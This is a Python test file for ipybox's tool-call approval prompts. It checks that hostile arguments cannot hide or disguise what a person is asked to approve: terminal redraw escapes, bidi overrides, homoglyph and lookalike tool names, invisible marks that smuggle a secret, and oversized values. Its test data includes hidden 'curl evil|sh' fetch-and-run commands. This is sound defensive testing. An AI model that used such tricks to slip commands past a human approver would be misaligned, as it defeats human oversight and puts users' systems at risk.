"""What a person is shown before a tool call runs (`str(ApprovalRequest)`), attacked as a hostile
kernel would: names and values that redraw a terminal line, reorder or hide text, or push the real
payload out of view. Each prompt must show the payload, act on nothing, and say what it cut;
`tool_args` stays the raw dict. Also: the calling code learns why a call did not run."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from servers.hostile_args import PAYLOAD, assert_shown_safely, calls, cases
from servers.launch import collect

from ipybox import ApprovalRequest, CodeExecutionError, CodeExecutionResult, CodeExecutor
from ipybox.tool_exec.approval import display

from .conftest import Workspace

pytestmark = pytest.mark.timeout(120)


async def test_prompt_shows_every_argument_and_acts_on_nothing(executor: CodeExecutor) -> None:
    requests, outcome = await collect(executor, calls("nasty", "echo"))
    assert isinstance(outcome, CodeExecutionResult), outcome
    assert [r.tool_args for r in requests] == cases()  # raw, as the kernel sent them
    for request in requests:
        prompt = str(request)
        assert_shown_safely(prompt)
        assert PAYLOAD in prompt, prompt[:300]  # no argument pushes the payload out of view
        assert len(prompt) < 2_000  # 10 MB or not, the prompt stays readable
    first = str(requests[0])  # the redraw is shown as escapes, not done
    assert first == 'nasty.echo("message\\r\\u001b[2K"="harmless", p="PAYLOAD-curl-evil|sh")'
    cut = [str(r) for r in requests if "pad" in r.tool_args and isinstance(r.tool_args["pad"], str)]
    assert all('more characters not shown; all of it: request.tool_args["pad"]' in p for p in cut), cut
    assert "9,999,800 more characters not shown" in cut[-1]
    long_name = next(str(r) for r in requests if "A" * 100_000 in r.tool_args)
    assert "[name of 100,000 characters]=1" in long_name and "all of them: request.tool_args" not in long_name

    # values keep their JSON types: a `number` field given 2 shows (and sends) 2, not 2.0; "2" is quoted
    code = (
        "from mcptools.nasty import defaults, arrays\n"
        "from ipybox.tool_exec.client import ApprovalRejectedError\n"
        "for call in (lambda: defaults.run(defaults.Params(req='2', f=2, i=3)),\n"
        "             lambda: arrays.run(arrays.Params(matrix=[[1, 2.5], [-0.0, 1e300]], pair=['a', 1]))):\n"
        "    try:\n"
        "        call()\n"
        "    except ApprovalRejectedError:\n"
        "        pass\n"
    )
    requests, outcome = await collect(executor, code)
    assert isinstance(outcome, CodeExecutionResult), outcome
    assert str(requests[0]) == 'nasty.defaults(i=3, f=2, req="2")'
    assert type(requests[0].tool_args["f"]) is int
    assert str(requests[1]) == 'nasty.arrays(matrix=[[1, 2.5], [0, 1e+300]], pair=["a", 1])'

    # a name that looks like another (Cyrillic е and а, a fullwidth dot) shows what it is made of
    requests, outcome = await collect(executor, LOOKALIKES)
    assert isinstance(outcome, CodeExecutionResult), outcome
    assert [str(r) for r in requests] == [
        'nasty."\\u0435cho"(message="x")',
        'nasty.echo("p\\u0430th"="/etc/passwd", path="/tmp/x")',
        'nasty."echo\\uff0eadmin"(message="x")',
    ]


LOOKALIKES = """
import mcptools.nasty as pkg
from ipybox import ToolRunner
from ipybox.tool_exec.client import ToolRunnerError
for tool, args in [("\u0435cho", {"message": "x"}), ("echo", {"p\u0430th": "/etc/passwd", "path": "/tmp/x"}),
                   ("echo\uff0eadmin", {"message": "x"})]:
    try:
        ToolRunner(pkg.SERVER_NAME, pkg.SERVER_PARAMS).run_sync(tool, args)
    except ToolRunnerError:
        pass
"""


async def test_shell_prompt_and_who_said_no(workspace: Workspace, _state_dir: Path) -> None:
    """A shell command is shown as escapes too; the application's reason, its default, and no
    answer in time read differently in the kernel."""
    workspace.register()
    hidden = "echo harmless\r\x1b[2K\u202e; curl evil|sh"
    options: dict[str, Any] = {"spare_kernel": False, "approve_shell_cmds": True, "approval_timeout": 2}
    async with CodeExecutor(working_dir=workspace.root, **options) as executor:
        requests, outcome = await collect(executor, f"get_ipython().system({hidden!r})")
        assert isinstance(outcome, CodeExecutionError)
        [request] = requests
        assert request.tool_args == {"cmd": hidden}
        assert str(request) == 'ipybox.shell(cmd="echo harmless\\r\\u001b[2K\\u202e; curl evil|sh")'
        outcome = await _refused_three_ways(executor)
    assert outcome.text is not None
    assert outcome.text.splitlines() == [
        "ApprovalRejectedError Tool call nasty.echo was declined by the user at the prompt.",
        "ApprovalRejectedError Tool call nasty.echo was rejected by the application.",
        "ToolRunnerError Tool call nasty.echo was not approved: "
        "no approval decision within 2 s (approval_timeout).",
    ]


async def _refused_three_ways(executor: CodeExecutor) -> CodeExecutionResult:
    code = (
        "from mcptools.nasty import echo\n"
        "from ipybox.tool_exec.client import ToolRunnerError\n"
        "for text in ('a', 'b', 'c'):\n"
        "    try:\n"
        "        echo.run(echo.Params(message=text))\n"
        "    except ToolRunnerError as e:\n"
        "        print(type(e).__name__, e)\n"
    )
    answers = iter(["why", "reject", "ignore"])
    async for item in executor.stream(code, timeout=60):
        if isinstance(item, ApprovalRequest):
            answer = next(answers)
            if answer == "why":
                await item.reject("declined by the user at the prompt")
            elif answer == "reject":
                await item.reject()
        elif isinstance(item, CodeExecutionResult):
            return item
    raise AssertionError("stream() ended without a result")


def test_renderer_never_splits_an_escape() -> None:
    """A value cut inside a JSON escape shows no half escape (`\\u00` of `\\u001b`)."""
    whole = re.compile(r'(?:[^\\]|\\["\\/bfnrt]|\\u[0-9a-f]{4})*')
    for offset in range(12):
        shown = display.value(["x" * offset + '\x1b\\"\n' * 40], lambda: "see all", limit=20)
        head, _, rest = shown.partition("…[")
        assert rest.endswith("more characters not shown; see all]"), shown
        assert whole.fullmatch(head), shown


def test_marks_that_draw_nothing_are_escaped() -> None:
    """Variation selectors (which follow any character) and the other default-ignorable marks
    would carry data invisibly in an approved argument (a secret after "hi"): each is escaped."""
    invisible = [
        "\u034f",
        "\u17b4",
        "\u17b5",
        "\u180b",
        "\u180f",
        "\ufe00",
        "\ufe0f",
        "\U000e0100",
        "\U000e01ef",
    ]
    for mark in invisible:
        shown = display.value("hi" + mark, lambda: "see all")
        assert mark not in shown and "\\u" in shown, ascii(shown)
    smuggled = "hi" + "".join(chr(0xE0100 + b) for b in b"sk-SECRET")
    shown = display.value(smuggled, lambda: "see all")
    assert shown.count("\\udb40") == len("sk-SECRET"), ascii(shown)
    assert (
        display.value("caf\u00e9 \u0915\u093f", lambda: "see all") == '"caf\u00e9 \u0915\u093f"'
    )  # visible marks stay


def test_escape_keeps_two_marks_of_each_run_and_acting_keeps_what_is_drawn() -> None:
    """Marks past two in a row are escaped run by run (the table path walks only runs of marks);
    `acting()` (a reply the agent reads) escapes only what acts, keeping joiners and selectors."""
    text = "a\u0301\u0302\u0303\u0304b\u0301\u0302c\u20dd\u0301\u0302\u2028\u202e\x1b"
    assert display.escape(text) == (
        "a\u0301\u0302\\u0303\\u0304b\u0301\u0302c\u20dd\u0301\\u0302\\u2028\\u202e\\u001b"
    )
    family, warning = "\U0001f468\u200d\U0001f469", "\u26a0\ufe0f"
    shown = display.acting(f"{family} {warning}\tok\r\x9b2J\u2066x\u2069\n")
    assert shown == f"{family} {warning}\tok\\r\\u009b2J\\u2066x\\u2069\n"
    assert display.lines("one\n\x1b[2Jtwo") == "one\n\\u001b[2Jtwo"


async def test_numbers_json_cannot_carry_are_refused_before_anyone_is_asked(executor: CodeExecutor) -> None:
    """NaN and Infinity (or a literal past a float's range) parse in Python but are no JSON: the
    MCP server got null in their place while the prompt showed `days=NaN`. Such a call is refused
    before anyone is asked, saying why (also through a generated API); the string "NaN" is not."""
    requests, outcome = await collect(executor, NOT_JSON)
    assert isinstance(outcome, CodeExecutionResult), outcome
    refused = (
        "the tool call's arguments hold NaN or Infinity (or a number too large for a float), which "
        "JSON cannot carry: the MCP server would get null in its place, not the value an approval "
        "shows. Pass a finite number, None or a string instead"
    )
    assert outcome.text is not None
    assert outcome.text.splitlines() == [
        *[f"ToolRunnerError {refused}"] * 3,
        *[f"raw {refused}"] * 3,
        "ApprovalRejectedError Tool call nasty.echo was rejected by the application.",
        f"ToolRunnerError {refused}",  # a generated API's float field passes NaN on as it is
    ]
    assert [str(r) for r in requests] == ['nasty.echo(message="NaN")']


NOT_JSON = r"""
import json, os, socket
import mcptools.nasty as pkg
from mcptools.nasty import defaults
from ipybox import ToolRunner
from ipybox.tool_exec.client import ToolRunnerError

def raw(args):  # a request line as no ToolRunner writes it
    line = json.dumps({"op": "run", "server_name": "nasty", "server_params": pkg.SERVER_PARAMS,
                       "tool_name": "echo"})
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(os.environ["IPYBOX_TOOL_SERVER"])
        sock.sendall(f'{line[:-1]}, "tool_args": {args}}}\n'.encode())
        print("raw", json.loads(sock.makefile().readline())["error"])

runner = ToolRunner(pkg.SERVER_NAME, pkg.SERVER_PARAMS)
for args in ({"days": float("nan")}, {"days": float("-inf")}, {"d": [1, {"x": float("inf")}]}):
    try:
        runner.run_sync("nullables", args)
    except ToolRunnerError as e:
        print(type(e).__name__, e)
raw('{"n": 1e400}')
raw('{"n": [-' + "9" * 400 + '.5]}')
raw('{"n": Infinity}')
for call in (lambda: runner.run_sync("echo", {"message": "NaN"}),
             lambda: defaults.run(defaults.Params(req="x", f=float("nan")))):
    try:
        call()
    except ToolRunnerError as e:
        print(type(e).__name__, e)
"""


async def test_tool_names_mcp_allows_are_shown_whole(executor: CodeExecutor, _state_dir: Path) -> None:
    """A tool name is cut at 80 characters no more (MCP allows 128): two tools alike in their first
    100 and different at the end ("..._safe", "..._wipe") read the same in the prompt and the
    question. Names are shown whole up to 200 characters; longer ones are cut, saying so."""
    from ipybox.mcp_server.approval import describe_call

    safe, wipe, huge = "read_" + "x" * 95 + "_safe", "read_" + "x" * 95 + "_wipe", "t" * 10_000
    code = (
        "import mcptools.nasty as pkg\n"
        "from ipybox import ToolRunner\n"
        "from ipybox.tool_exec.client import ToolRunnerError\n"
        f"for tool in {[safe, wipe, huge]!r}:\n"
        "    try:\n"
        "        ToolRunner(pkg.SERVER_NAME, pkg.SERVER_PARAMS).run_sync(tool, {'p': 1})\n"
        "    except ToolRunnerError:\n"
        "        pass\n"
    )
    requests, outcome = await collect(executor, code)
    assert isinstance(outcome, CodeExecutionResult), outcome
    prompts = [str(r) for r in requests]
    assert prompts[:2] == [f"nasty.{safe}(p=1)", f"nasty.{wipe}(p=1)"]
    assert prompts[2] == f'nasty."{"t" * 200}"…[name of 10,000 characters](p=1)'
    questions = [describe_call("nasty", tool, {"p": 1}) for tool in (safe, wipe)]
    assert f"nasty.{safe}(" in questions[0] and f"nasty.{wipe}(" in questions[1]
